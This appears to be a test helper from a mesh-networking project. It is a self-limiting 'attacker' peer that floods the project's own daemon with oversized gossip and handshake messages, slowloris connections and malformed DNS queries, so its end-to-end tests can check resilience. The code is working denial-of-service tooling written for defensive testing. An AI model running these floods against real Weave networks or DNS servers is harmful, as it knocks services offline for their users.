"""A hostile peer on the underlay, for tests/e2e/test_mesh_attacks.py (run inside a namespace).

    python -m tests.e2e.attacker bomb HOST PORT SECONDS
    python -m tests.e2e.attacker slowloris HOST PORT COUNT SECONDS SRC[,SRC...]
    python -m tests.e2e.attacker dnsflood HOST PORT SECONDS

Every mode stops by itself after SECONDS and prints one JSON line of what it did.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import resource
import socket
import struct
import sys
import threading
import time

from tests.gob_bombs import slice_bomb, struct_bomb
from weaved.mesh.handshake import Handshake, HandshakeDone, SendBytes
from weaved.mesh.messages import encode_broadcast, encode_gossip
from weaved.mesh.peername import format_peer_name

HEADER = b"weave\x01\x02"


def frame(body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + body


def connect(host: str, port: int, src: str = "") -> socket.socket:
    s = socket.create_connection((host, port), timeout=5, source_address=(src, 0) if src else None)
    s.settimeout(5)
    return s


def fake_peer(host: str, port: int) -> socket.socket:
    """A complete, valid introduction under a random peer name (no password)."""
    name = random.getrandbits(48) & ~(1 << 40)
    features = {
        "PeerNameFlavour": "mac",
        "Name": format_peer_name(name),  # type: ignore[arg-type]
        "NickName": "attacker",
        "UID": str(random.getrandbits(63)),
        "ConnID": str(random.getrandbits(63)),
        "ShortID": "77",
    }
    hs = Handshake(outbound=True, features=features, password=None)
    s = connect(host, port)
    s.sendall(hs.start())
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        data = s.recv(65536)
        if not data:
            raise ConnectionError("closed during handshake")
        for ev in hs.receive_data(data):
            if isinstance(ev, SendBytes):
                s.sendall(ev.data)
            elif isinstance(ev, HandshakeDone):
                return s
            else:
                raise ConnectionError(str(ev))
    raise TimeoutError("handshake")


def bomb(host: str, port: int, seconds: float) -> dict[str, int]:
    done = {"features_bombs": 0, "huge_prefixes": 0, "fake_peers": 0, "gossip_bombs": 0}
    done["gossip_floods"] = 0
    stop = time.monotonic() + seconds
    big = slice_bomb(10 * 1024 * 1024 - 4096)
    topology_bomb = encode_gossip("topology", 1, big)  # type: ignore[arg-type]

    def features_bomb() -> None:
        s = connect(host, port)
        # ~64 KiB features message: the most a stranger may send before the handshake.
        s.sendall(HEADER + b"\x00" + frame(struct_bomb(60_000)))
        s.recv(100)
        s.close()
        done["features_bombs"] += 1

    def huge_prefix() -> None:
        s = connect(host, port)
        s.sendall(HEADER + b"\x00" + b"\xff\xff\xff\xf0" + os.urandom(60_000))
        s.recv(100)
        s.close()
        done["huge_prefixes"] += 1

    def gossip_bomb() -> None:
        s = fake_peer(host, port)
        done["fake_peers"] += 1
        s.sendall(frame(topology_bomb))
        done["gossip_bombs"] += 1
        time.sleep(0.2)
        s.close()

    def gossip_flood() -> None:
        s = fake_peer(host, port)
        done["fake_peers"] += 1
        for i in range(2000):
            payload = os.urandom(200)
            body = (encode_gossip if i % 2 else encode_broadcast)(f"chan{i % 40}", 1, payload)  # type: ignore[arg-type]
            s.sendall(frame(body))
            done["gossip_floods"] += 1
        s.close()

    def worker(kind: int) -> None:
        actions = [features_bomb, huge_prefix, gossip_bomb, gossip_flood]
        while time.monotonic() < stop:
            try:
                actions[kind % len(actions)]()
            except OSError:
                time.sleep(0.05)

    threads = [threading.Thread(target=worker, args=(i,), daemon=True) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(seconds + 10)
    return done


def slowloris(
    host: str, port: int, count: int, seconds: float, sources: list[str]
) -> dict[str, int]:
    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 256, count + 256))
    socks: list[socket.socket] = []
    failed = 0
    stop = time.monotonic() + seconds
    for i in range(count):
        if time.monotonic() > stop:
            break
        s = socket.socket()
        s.setblocking(False)
        s.bind((sources[i % len(sources)], 0))
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError:
            failed += 1
            s.close()
            continue
        socks.append(s)
    dripped = 0
    while time.monotonic() < stop:
        for s in socks[::7]:  # some send the header a byte at a time
            with contextlib.suppress(OSError):
                s.send(HEADER[dripped % 5 : dripped % 5 + 1])
        dripped += 1
        time.sleep(1.0)
    for s in socks:
        s.close()
    return {"opened": len(socks), "failed": failed}


def dnsflood(host: str, port: int, seconds: float) -> dict[str, int]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    sent = 0
    stop = time.monotonic() + seconds
    while time.monotonic() < stop:
        q = struct.pack(">HHHHHH", random.getrandbits(16), 0x0100, 65535, 0, 0, 0)
        q += b"\x01a\x00\x00\x01\x00\x01" + b"\xc0\x0c\x00\x01\x00\x01" * 600
        try:
            s.sendto(q, (host, port))
            sent += 1
        except BlockingIOError:
            time.sleep(0.0005)
        except OSError:
            pass
        try:
            while True:
                s.recv(4096)
        except OSError:
            pass
    return {"sent": sent}


def main(argv: list[str]) -> None:
    mode = argv[0]
    if mode == "bomb":
        out = bomb(argv[1], int(argv[2]), float(argv[3]))
    elif mode == "slowloris":
        out = slowloris(argv[1], int(argv[2]), int(argv[3]), float(argv[4]), argv[5].split(","))
    elif mode == "dnsflood":
        out = dnsflood(argv[1], int(argv[2]), float(argv[3]))
    else:
        raise SystemExit(f"unknown mode {mode}")
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
